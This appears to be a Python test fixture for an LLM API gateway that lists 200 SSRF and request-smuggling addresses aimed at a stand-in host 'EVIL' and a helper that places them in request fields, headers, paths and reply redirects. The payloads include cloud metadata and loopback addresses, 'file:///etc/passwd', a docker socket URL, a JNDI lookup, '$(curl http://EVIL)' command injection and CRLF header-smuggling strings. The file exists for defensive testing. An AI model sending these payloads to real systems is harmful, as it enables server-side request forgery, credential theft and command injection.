"""Addresses as an attacker writes them, and the places of a request or a reply where one could be believed.

"EVIL" stands for host and port of a server that nobody may be led to. It knows no gateway.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

_HOSTS = (
    "127.0.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.1", "127.0.1", "0",
    "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "localhost",
    "LOCALHOST", "localhost.", "127.0.0.1.", "127。0。0。1", "①②⑦.⓪.⓪.①", "localtest.me", "127.0.0.1.nip.io",
    "169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "10.0.0.1", "192.168.0.1", "evil.example",
    "xn--evl-5pa.example", "evıl.example", "a" * 63 + ".example", "1.1.1.1", "rebind.network",
)  # fmt: skip
_PLAIN = (
    "http://EVIL", "https://EVIL/", "http://EVIL/v1", "//EVIL/v1", "EVIL", "///EVIL/", r"\\EVIL\v1", r"http:\\EVIL",
    "http:/EVIL", "http:EVIL", "HTTP://EVIL/", "hTtP://EVIL/v1/chat/completions", " http://EVIL/", "http://EVIL/ ",
    "\thttp://EVIL", "http://EVIL#", "http://EVIL?", "http://EVIL/%2e%2e/", "/\\/EVIL", "/%09/EVIL", "/%5cEVIL",
    "http://upstream@EVIL/", "http://127.0.0.1@EVIL/", "http://user:password@EVIL/v1", "http://EVIL@127.0.0.1/",
    "http://EVIL:80@127.0.0.1:80/", "http://EVIL\\@127.0.0.1/", "http://127.0.0.1#@EVIL/", "http://127.0.0.1?@EVIL/",
    "http://a:b@c:d@EVIL/", "http://EVIL%2f@127.0.0.1/", "http://EVIL%00.example/", "http://EVIL%0d%0a/",
    "x\r\nHost: EVIL", "x\r\nhost: EVIL\r\n\r\n", "x\nHost: EVIL", "x\rHost: EVIL", "x%0d%0aHost:%20EVIL",
    "x\r\n\r\nGET http://EVIL/ HTTP/1.1\r\nhost: EVIL\r\n\r\n", "x\r\nContent-Length: 0\r\n\r\nGET /v1/evil HTTP/1.1",
    "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/evil HTTP/1.1\r\nhost: EVIL\r\n\r\n",
    "x HTTP/1.1\r\nHost: EVIL\r\nx:", "x\u010d\u010aHost: EVIL", "x\u560d\u560aHost: EVIL", "x\u2028Host: EVIL",
    "x\x00Host: EVIL", "x\x0bHost: EVIL", "x\x85Host: EVIL", "ftp://EVIL/", "gopher://EVIL/_GET%20/",
    "file:///etc/passwd",
    "file://EVIL/etc/passwd", "dict://EVIL/", "ldap://EVIL/", "unix:///var/run/docker.sock", "unix:EVIL",
    "http+unix://%2Fvar%2Frun%2Fdocker.sock/", "ws://EVIL/", "wss://EVIL/", "data:text/plain,EVIL", "javascript:EVIL",
    "jar:http://EVIL!/", "tcp://EVIL", "http://[::1%25eth0]/", "http://[v1.EVIL]/", "http://EVIL:0/",
    "http://EVIL:99999/",
    "http://EVIL:-1/", "http://EVIL:1e4/", "http://:@EVIL/", "http://@EVIL/", "http://%45VIL/", "http://EVIL:/",
    "http://EVIL//v1//", "http://EVIL/../../v1", "/../../EVIL", "/v1/../../EVIL", "/v1/..;/EVIL",
    "/v1/%2e%2e/%2e%2e/EVIL",
    "/v1/%252e%252e/EVIL", "/v1/.%00./EVIL", "/v1//EVIL/", "/v1/@EVIL", "/v1@EVIL/", "/v1/:@EVIL", "@EVIL/v1",
    ":80@EVIL/v1", ".EVIL/v1", "?url=http://EVIL", "#http://EVIL", "*", "CONNECT EVIL", "EVIL, 127.0.0.1", "EVIL;a=b",
    "for=EVIL;host=EVIL;proto=http", 'for="EVIL"', "${jndi:ldap://EVIL/a}", "{{http://EVIL}}", "$(curl http://EVIL)",
    "`curl http://EVIL`", "; curl http://EVIL", '"><img src=http://EVIL>', "http://EVIL\t/", "http://EVIL\n/",
    "upstream\x7fEVIL",
    "http://evil.example\ufeff@EVIL/", "http://EVIL\u3002example/", "http://EVIL\u200b/", "http://EVIL\u00ad/",
    "https://EVIL:443@EVIL", "http://127.0.0.1:1\uff0fEVIL/", "http://127.0.0.1\uff20EVIL/", "http://EVIL\uff03/",
    "EVIL\uff1a80",
)  # fmt: skip
_PORTLESS = ("http://{}/", "http://{}:PORT/v1", "//{}:PORT")
_MORE = tuple(form.format(host).replace(":PORT", ":9") for host in _HOSTS for form in _PORTLESS)

PAYLOADS: tuple[str, ...] = (*_PLAIN, *_MORE)[:200]
"""200 addresses."""

_FIELDS = (
    "model", "base_url", "api_base", "api_base_url", "endpoint", "url", "host", "upstream", "provider", "proxy",
    "server",
    "fallbacks", "router", "callback", "webhook", "organization", "user", "api_key", "custom_llm_provider",
    "extra_body",
    "metadata", "tools", "image", "audio", "file", "mcp_servers", "stop", "response_format",
)  # fmt: skip
_HEADERS = (
    "host", "x-forwarded-host", "x-forwarded-for", "x-forwarded-proto", "x-forwarded-server", "x-host", "x-real-ip",
    "forwarded", "x-original-url", "x-rewrite-url", "x-base-url", "x-upstream", "x-insource-upstream",
    "x-insource-task",
    "via", "referer", "origin", "authorization", "cookie", "connection", "upgrade", "te", "expect", "location",
    "destination",
    "proxy", "proxy-authorization", "traceparent", "tracestate", "openai-organization", "content-location", "alt-used",
    "x-http-method-override", "user-agent", "transfer-encoding",
)  # fmt: skip
_PATHS = ("path", "path after /v1/", "query", "method", "header name")
REPLY_PLACES: Mapping[str, tuple[int, str]] = {
    "reply 301": (301, "location"),
    "reply 302": (302, "location"),
    "reply 303": (303, "location"),
    "reply 307": (307, "location"),
    "reply 308": (308, "location"),
    "reply 305": (305, "location"),
    "reply 401": (401, "www-authenticate"),
    "reply 407": (407, "proxy-authenticate"),
    "reply 426": (426, "upgrade"),
    "reply alt-svc": (200, "alt-svc"),
    "reply refresh": (200, "refresh"),
    "reply link": (200, "link"),
    "reply set-cookie": (200, "set-cookie"),
    "reply content-location": (201, "content-location"),
    "reply 503": (503, "retry-after"),
}
"""Where a reply could lead: its status and the header that holds the address."""

SITES: tuple[str, ...] = (
    *(f"field {name}" for name in _FIELDS),
    *(f"header {name}" for name in _HEADERS),
    *_PATHS,
    *REPLY_PLACES,
)


@dataclass(frozen=True, slots=True)
class Placed:
    """A request with an address in one place."""

    path: str
    body: bytes
    headers: list[tuple[str, str]]
    method: str


def place(site: str, address: str) -> Placed:
    """Return a request with the address in that place, with a plain one where the place is in the reply."""
    body: dict[str, Any] = {"model": "gpt-x", "messages": [{"role": "user", "content": "hello"}]}
    headers, path, method = [("content-type", "application/json")], "/v1/chat/completions", "POST"
    kind, _, name = site.partition(" ")
    if kind == "field":
        body |= _field(name, address)
    elif kind == "header":
        headers.append((address if name == "name" else name, "1" if name == "name" else address))
    elif site == "path":
        path = address
    elif site == "path after /v1/":
        path = "/v1/files/" + address
    elif site == "query":
        path = "/v1/models?next=" + address
    elif site == "method":
        method = address
    if not any(given == "host" for given, _ in headers):
        headers.append(("host", "localhost"))
    return Placed(path, json.dumps(body).encode(), headers, method)


def _field(name: str, address: str) -> dict[str, Any]:
    shapes: dict[str, Any] = {
        "fallbacks": [{"model": "m", "api_base": address}, address],
        "metadata": {"base_url": address, "url": address},
        "extra_body": {"api_base": address, "base_url": address},
        "tools": [{"type": "mcp", "server_url": address, "function": {"url": address}}],
        "mcp_servers": [{"type": "url", "url": address}],
        "response_format": {"type": "json_schema", "json_schema": {"schema": {"$ref": address, "$schema": address}}},
    }
    if name in ("image", "audio", "file"):
        parts = [{"type": f"{name}_url", f"{name}_url": {"url": address}, "url": address}]
        return {"messages": [{"role": "user", "content": parts}]}
    return {name: shapes.get(name, address)}
